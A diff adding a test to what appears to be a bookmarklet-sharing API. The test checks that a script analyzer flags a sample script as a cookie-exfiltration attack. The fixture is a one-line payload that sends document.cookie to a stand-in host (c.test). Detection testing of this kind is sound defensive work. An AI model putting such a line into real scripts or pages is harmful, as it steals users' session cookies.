@@ -1,3 +1,4 @@
+import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
 import { Validator } from "@seriousme/openapi-schema-validator";
 import { Ajv2020 } from "ajv/dist/2020.js";
 import formats from "ajv-formats";
@@ -167,6 +168,25 @@ test("unknown resources and unsupported requests", async () => {
 		expect(refused.headers.get("allow")).toBe("GET, HEAD, OPTIONS");
 		expect(await refused.json()).toMatchObject({ code: "method_not_allowed", status: 405 });
 	}
+});
+
+test("a list and a script state access and verdict, the script with what the verdict is based on", async () => {
+	const code = "fetch('https://c.test/' + document.cookie)";
+	const { risk_level, score, ...analysis } = analyzeScript({ code });
+	const report = hub.sql.json(JSON.parse(JSON.stringify({ risk_level, score, ...analysis })));
+	await hub.sql`
+		update public.bookmarklets set security_analysis = ${report}, risk_level = ${risk_level}, security_score = ${score}
+		where id = ${ids.visible}`;
+	const { items } = await list("/scripts", "?author=lena-brandt&limit=100");
+	const access = { sites: "this-site", code: "none", reads: ["cookies"], contacts: ["c.test"], contact_count: 1 };
+	expect(items.find(({ id }) => id === ids.visible)).toMatchObject({ verdict: "attack", access });
+	expect(items.find(({ id }) => id !== ids.visible)).not.toHaveProperty("reach");
+	const { body } = await ask("/scripts/{id}", "", { id: ids.visible });
+	expect(body).toMatchObject({
+		verdict: "attack",
+		access,
+		security_analysis: { access, verdict: { kind: "attack", grounds: [{ type: "cookie-exfiltration" }], part: null } },
+	});
 });
 
 test("pages of other origins may ask, with the tag of their copy", async () => {
